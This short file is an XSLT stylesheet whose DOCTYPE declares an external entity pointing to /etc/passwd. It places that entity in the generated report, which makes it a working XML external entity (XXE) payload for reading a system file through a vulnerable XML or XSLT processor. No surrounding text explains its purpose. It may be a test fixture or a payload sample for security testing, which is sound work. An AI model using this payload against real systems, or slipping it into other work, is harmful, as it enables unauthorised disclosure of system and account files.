<!DOCTYPE x [<!ENTITY x SYSTEM "/etc/passwd">]>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
<xsl:template match="/">
  <report><title><word key="title"/></title><section>
    <p>&x;</p>
  </section></report>
</xsl:template>
</xsl:stylesheet>
